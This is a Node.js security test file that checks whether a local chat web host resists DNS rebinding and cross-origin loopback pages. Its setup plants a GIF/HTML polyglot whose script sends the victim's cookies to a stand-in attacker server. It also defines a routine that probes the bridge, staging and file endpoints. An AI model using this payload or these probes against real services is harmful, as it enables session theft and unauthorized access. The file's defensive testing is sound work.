// The web host under attack, in Chromium: a real confabd, alice logged in
// through the real confab-web in one tab, and pages of other origins trying
// to drive it (issue 9). Each attack is one a browser really allows a page:
//
// - DNS rebinding: a name the attacker controls resolves to 127.0.0.1
//   (Chromium's --host-resolver-rules maps `rebind.test` there), so its page
//   is same-origin with whatever listens on that port. It must get nothing:
//   no bridge, no staging, no store, no files.
// - Another loopback origin (a tiny HTTP server on 127.0.0.1:0, in the same
//   browser as alice's tab, so her cookie exists): it opens the bridge,
//   reads a downloaded file, stages a file, and navigates to an HTML file a
//   contact planted in the download cache (bytes `GIF89a…<script>`, named
//   `.html`). The planted script would report to the attacker; it must
//   never run.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli, launchBrowser, openPage, removeDir, startConfabd, startWeb, tempDir } from './harness.mjs';

const PASSWORD = 'alice-secret-1';
const HASH = '7e'.repeat(32);

/** The attacker's own web server: its page, and a log of every callback. */
function startAttacker() {
  const hits = [];
  const server = createServer((req, res) => {
    if (req.url.startsWith('/pwned')) hits.push(req.url);
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end('<!doctype html><title>attacker</title><p>cute cats</p>');
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const origin = `http://127.0.0.1:${server.address().port}`;
      resolve({ origin, hits, close: () => new Promise((r) => server.close(r)) });
    });
  });
}

/** What a page of any origin can try against the web host (runs in that page). */
async function attack({ bridge, stage, reads }) {
  const results = {};
  results.bridge = await new Promise((resolve) => {
    let ws;
    try {
      ws = new WebSocket(bridge);
    } catch (e) {
      resolve(`refused: ${e}`);
      return;
    }
    ws.onopen = () => ws.send(JSON.stringify({ id: 1, command: 'app.getState', args: {} }));
    ws.onmessage = (e) => {
      resolve(`opened: ${e.data}`);
      ws.close();
    };
    ws.onerror = () => resolve('refused');
  });
  try {
    const res = await fetch(stage, { method: 'POST', body: 'stolen?' });
    results.stage = `HTTP ${res.status}: ${await res.text()}`;
  } catch (e) {
    results.stage = `refused: ${e}`;
  }
  results.reads = {};
  for (const url of reads) {
    try {
      const res = await fetch(url);
      results.reads[url] = `HTTP ${res.status}: ${(await res.text()).slice(0, 40)}`;
    } catch (e) {
      results.reads[url] = `refused: ${e}`;
    }
  }
  return results;
}

describe('the web host against other pages', { timeout: 180_000 }, () => {
  let server;
  let web;
  let attacker;
  let browser;
  let alice;
  let cache;
  let appDir;
  /** The stores' directory below the SDK directory, as the `/local/` URLs name it. */
  let appPath;
  const dirs = [];

  before(async () => {
    server = await startConfabd();
    dirs.push(server.dataDir);
    const cliAlice = tempDir('alice');
    dirs.push(cliAlice);
    await cli(cliAlice, 'register', 'alice', '--server', server.url, '--password', PASSWORD);
    web = await startWeb({ server: server.url });
    dirs.push(web.dataDir);
    attacker = await startAttacker();
    browser = await launchBrowser({ args: ['--host-resolver-rules=MAP rebind.test 127.0.0.1'] });
    alice = await openPage(browser, web.url);
    const page = alice.page;
    await page.locator('input[name="userID"]').fill('alice');
    await page.locator('input[name="password"]').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.getByRole('listbox', { name: 'Chats' }).waitFor();
    // What a contact's video cover declared `html` left in the cache: the
    // file service took it for a GIF; its script would report to the attacker.
    // A remote server's stores are in a directory of their own: sdk/remote-<hex>/<SDKAppID>.
    const sdk = join(web.dataDir, 'sdk');
    const serverDir = readdirSync(sdk).find((d) => /^remote-[0-9a-f]{16}$/.test(d));
    const app = readdirSync(join(sdk, serverDir)).find((d) => /^\d+$/.test(d));
    appPath = `${serverDir}/${app}`;
    appDir = join(sdk, serverDir, app);
    cache = join(appDir, 'alice.files');
    mkdirSync(cache, { recursive: true });
    const planted =
      'GIF89a<html><body><script>document.title="PWNED";' +
      `new Image().src="${attacker.origin}/pwned?"+encodeURIComponent(document.cookie);` +
      'const ws=new WebSocket("ws://"+location.host+"/bridge");' +
      `ws.onopen=()=>{new Image().src="${attacker.origin}/pwned-bridge"};` +
      '</script></body></html>';
    writeFileSync(join(cache, `${HASH}.html`), planted);
    writeFileSync(join(cache, `${HASH}.gif`), planted);
  });

  after(async () => {
    await browser?.close();
    await attacker?.close();
    await web?.stop();
    await server?.stop();
    for (const d of dirs) removeDir(d);
  });

  it('without the token the UI loads but tells the user to open the printed URL', async () => {
    const { context, page } = await openPage(browser, web.base);
    await page.getByTestId('bridge-refused').waitFor();
    assert.match(await page.getByTestId('bridge-refused').textContent(), /confab-web printed/);
    await context.close();
    const zh = await openPage(browser, web.base, { locale: 'zh-CN' });
    await zh.page.getByTestId('bridge-refused').waitFor();
    assert.match(await zh.page.getByTestId('bridge-refused').textContent(), /confab-web 启动时输出的地址/);
    await zh.context.close();
  });

  it('a DNS-rebinding page gets neither the bridge, staging, the stores nor the files', async () => {
    const port = new URL(web.base).port;
    const rebound = `http://rebind.test:${port}`;
    const context = await browser.newContext();
    const page = await context.newPage();
    const response = await page.goto(`${rebound}/`);
    assert.equal(response.status(), 403, 'the rebound name is not a host the web host answers');
    const store = readdirSync(appDir).find((f) => f.endsWith('.sqlite'));
    assert.ok(store, 'alice has a local store');
    const results = await page.evaluate(attack, {
      bridge: `ws://rebind.test:${port}/bridge`,
      stage: `${rebound}/stage?name=x`,
      reads: [`${rebound}/local/${appPath}/${store}`, `${rebound}/local/${appPath}/alice.files/${HASH}.gif`, `${rebound}/`],
    });
    assert.equal(results.bridge, 'refused', JSON.stringify(results));
    assert.match(results.stage, /^HTTP 403/, JSON.stringify(results));
    for (const [url, result] of Object.entries(results.reads)) assert.match(result, /^HTTP 403/, `${url}: ${result}`);
    assert.equal(existsSync(join(web.dataDir, 'staging')), false, 'nothing was staged');
    await context.close();
  });

  it('another loopback origin cannot open the bridge, read files, stage, or run a planted page', async () => {
    const page = await alice.context.newPage();
    await page.goto(`${attacker.origin}/`);
    const app = appPath;
    const planted = `${web.filesOrigin}/local/${app}/alice.files/${HASH}`;
    const results = await page.evaluate(attack, {
      bridge: `ws://127.0.0.1:${new URL(web.base).port}/bridge`,
      stage: `${web.base}/stage?name=x`,
      reads: [`${planted}.gif`, `${web.base}/local/${app}/alice.files/${HASH}.gif`],
    });
    assert.equal(results.bridge, 'refused', JSON.stringify(results));
    // A cross-origin POST goes out, but the host refuses it (Origin) before
    // writing anything; the page cannot read any answer.
    assert.match(results.stage, /^refused/, JSON.stringify(results));
    assert.equal(existsSync(join(web.dataDir, 'staging')), false, 'nothing was staged');
    for (const [url, result] of Object.entries(results.reads)) assert.match(result, /^refused/, `${url}: ${result}`);

    // Navigating to the planted HTML: the content origin sends it as an
    // attachment in a sandbox, so the browser downloads it; it never renders.
    const download = page.waitForEvent('download');
    await page.goto(`${planted}.html`).catch((e) => assert.match(String(e), /Download is starting|net::ERR_ABORTED/));
    const file = await download;
    assert.equal(file.url(), `${planted}.html`);
    await file.cancel();
    // Where the old web host served the cache (the UI's own origin) there is
    // only the UI now.
    await page.goto(`${web.base}/local/${app}/alice.files/${HASH}.html`);
    assert.notEqual(await page.title(), 'PWNED');
    // The same bytes named .gif are an image in a sandbox: not a document
    // that runs script.
    await page.goto(`${planted}.gif`);
    assert.notEqual(await page.title(), 'PWNED');
    assert.deepEqual(attacker.hits, [], 'the planted script never ran');
    await page.close();
    assert.deepEqual(alice.errors, [], 'alice\'s tab saw no errors (no CSP violation either)');
  });
});
